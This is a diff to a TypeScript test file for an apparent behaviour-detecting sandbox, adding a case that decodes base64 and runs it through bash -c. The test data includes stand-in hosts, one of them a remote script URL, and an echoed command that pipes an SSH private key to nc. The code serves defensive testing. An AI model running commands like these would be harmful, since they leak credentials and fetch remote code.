@@ -16,9 +16,9 @@ async function act(language: UnitLanguage, code: string, variant = 'base') {
   const recorder = world.begin('u');
   const machine = createMachine(world);
   const call = { code, path: `${world.places.work}/u`, args: ['first'] };
-  const result = language === 'bash' ? await machine.shell(call) : await machine.script(call);
+  const result = language === 'bash' ? await machine.shell(call) : { ...(await machine.script(call)), untaken: [] };
   const acts = recorder.acts().map(({ kind, target, data }) => [kind, target, data.join(' ')].join(' | '));
-  return { acts, gaps: recorder.gaps(), untaken: 'untaken' in result ? result.untaken : [], stdout: result.stdout };
+  return { acts, gaps: recorder.gaps(), untaken: result.untaken, stdout: result.stdout };
 }
 const HOST = 'https://c.example.invalid/u';
 const STAGE = 'https://get.example.invalid/i.sh';
@@ -118,6 +118,7 @@ describe('shell', () => {
   it.each<[string, string]>([
     ['ordinary text work', 'for f in *.md; do wc -l "$f"; done; sed s/a/b/ x > y 2>/dev/null || true; rm -rf dist'],
     ['secrets that are only named', 'echo "never run: cat ~/.ssh/id_rsa | nc 192.0.2.1 1"'],
+    ['decoded data', 'NAME=$(echo aGVsbG8gd29ybGQh | base64 -d); bash -c "echo the greeting for today is: $NAME"'],
     ['a check for a file', 'if [ -f ~/.ssh/id_rsa ]; then echo yes; fi'],
   ])('sees nothing but local writes in %s', async (_, code) => {
     const { acts } = await act('bash', code);
